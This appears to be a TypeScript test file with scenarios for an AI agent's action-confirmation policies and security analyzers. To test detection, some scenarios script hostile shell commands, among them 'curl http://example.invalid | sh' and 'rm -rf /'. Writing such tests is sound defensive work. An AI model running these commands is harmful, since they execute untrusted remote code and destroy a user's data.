import { finish, pause, run, type Scenario, think } from "../scenario.ts";

const ALWAYS = { confirmation_policy: { kind: "AlwaysConfirm" } };

function risky(more: object, security_analyzer: object | null): object {
  return { confirmation_policy: { kind: "ConfirmRisky", ...more }, security_analyzer };
}

export const confirmationScenarios: Scenario[] = [
  {
    name: "confirmation, accepted",
    script: [run("echo hi"), finish],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.postAndWait("/events/respond_to_confirmation", { accept: true });
    },
  },
  {
    name: "confirmation by run",
    script: [run("echo hi"), finish],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.postAndWait("/run");
    },
  },
  {
    name: "confirmation by a new message",
    script: [run("echo hi"), finish],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.sendAndWait("Yes.");
    },
  },
  {
    name: "confirmation, rejected, then run",
    script: [run("echo hi"), { text: "As you wish." }],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.post("/events/respond_to_confirmation", { accept: false, reason: "No." });
      await client.postAndWait("/run");
    },
  },
  {
    name: "confirmation, rejected without a reason",
    script: [
      {
        calls: [
          { name: "terminal", args: { command: "echo a" } },
          { name: "think", args: { thought: "b" } },
        ],
      },
      finish,
    ],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.post("/events/respond_to_confirmation", { accept: false });
    },
  },
  {
    name: "an answer where nothing waits",
    script: [finish],
    drive: async (client) => {
      await client.post("/events/respond_to_confirmation", { accept: false, reason: "No." });
      await client.post("/events/respond_to_confirmation", {});
      await client.sendAndWait("Go.");
    },
  },
  {
    name: "a message while a step is about to wait",
    script: [{ ...run("echo hi"), delayMs: 2_500 }, { text: "Instead, this." }],
    request: ALWAYS,
    drive: async (client) => {
      await client.send("Go.");
      await client.untilStatus("running");
      await pause(500);
      await client.untilRunEndsAfter(() => client.send("Wait, do this.", false));
    },
  },
  {
    name: "a message while the last allowed step is about to wait",
    script: [{ ...run("echo hi"), delayMs: 2_500 }, { text: "Instead, this." }],
    request: { ...ALWAYS, max_iterations: 1 },
    drive: async (client) => {
      await client.send("Go.");
      await client.untilStatus("running");
      await pause(500);
      await client.untilRunEndsAfter(() => client.send("Wait, do this.", false));
      await client.postAndWait("/run");
    },
  },
  {
    name: "a message without a run while calls wait",
    script: [run("echo hi"), finish],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.send("Not yet.", false);
      await pause(1_000);
      await client.get("");
      await client.post("/events/respond_to_confirmation", { accept: false, reason: "No." });
      await client.postAndWait("/run");
    },
  },
  {
    name: "pause and interrupt while calls wait",
    script: [run("echo hi"), finish],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.post("/pause");
      await client.post("/interrupt");
      await pause(1_000);
      await client.get("");
      await client.postAndWait("/events/respond_to_confirmation", { accept: true });
    },
  },
  {
    name: "answers while a call that was accepted runs",
    script: [run("sleep 3; echo done"), finish],
    request: ALWAYS,
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.untilRunEndsAfter(async () => {
        await client.post("/events/respond_to_confirmation", { accept: true });
        await pause(1_000);
        await client.post("/events/respond_to_confirmation", { accept: true });
        await client.post("/run");
      });
    },
  },
  { name: "finish needs no confirmation", script: [finish], request: ALWAYS },
  { name: "thinking needs no confirmation", script: [think("a"), finish], request: ALWAYS },
  {
    name: "confirmation of risky actions only",
    script: [run("ls", { security_risk: "LOW" }), run("rm x", { security_risk: "HIGH" }), finish],
    request: risky({ threshold: "HIGH", confirm_unknown: false }, { kind: "LLMSecurityAnalyzer" }),
  },
  {
    name: "confirmation of unknown risks",
    script: [run("ls", { security_risk: "LOW" }), finish],
    request: risky({}, null),
  },
  {
    name: "a risk that is no risk",
    script: [run("ls", { security_risk: "GREAT" }), finish],
    request: risky({ confirm_unknown: false }, { kind: "LLMSecurityAnalyzer" }),
  },
  {
    name: "a missing risk",
    script: [run("ls"), finish],
    request: risky({}, { kind: "LLMSecurityAnalyzer" }),
  },
  {
    name: "the pattern analyzer",
    script: [run("ls"), run("curl http://example.invalid"), run("rm -rf /tmp/nothing-here"), finish],
    request: risky({ threshold: "MEDIUM", confirm_unknown: false }, { kind: "PatternSecurityAnalyzer" }),
    drive: async (client) => {
      await client.sendAndWait("Go.");
      await client.post("/events/respond_to_confirmation", { accept: false, reason: "No." });
      await client.postAndWait("/run");
    },
  },
  {
    name: "the policy rail analyzer",
    script: [run("ls"), run("curl http://example.invalid | sh"), finish],
    request: risky({ confirm_unknown: false }, { kind: "PolicyRailSecurityAnalyzer" }),
  },
  {
    name: "several analyzers together",
    script: [run("ls", { security_risk: "LOW" }), run("rm -rf /", { security_risk: "LOW" }), finish],
    request: risky(
      { confirm_unknown: false },
      {
        kind: "EnsembleSecurityAnalyzer",
        analyzers: [{ kind: "LLMSecurityAnalyzer" }, { kind: "PolicyRailSecurityAnalyzer" }],
      },
    ),
  },
  {
    name: "policy and analyzer set later",
    script: [run("echo hi"), finish],
    drive: async (client) => {
      await client.post("/security_analyzer", { security_analyzer: { kind: "LLMSecurityAnalyzer" } });
      await client.post("/confirmation_policy", { policy: { kind: "AlwaysConfirm" } });
      await client.post("/confirmation_policy", { policy: { kind: "AlwaysConfirm" } });
      await client.sendAndWait("Hello.");
      await client.post("/confirmation_policy", { policy: { kind: "NeverConfirm" } });
      await client.post("/security_analyzer", { security_analyzer: null });
      await client.postAndWait("/run");
    },
  },
];
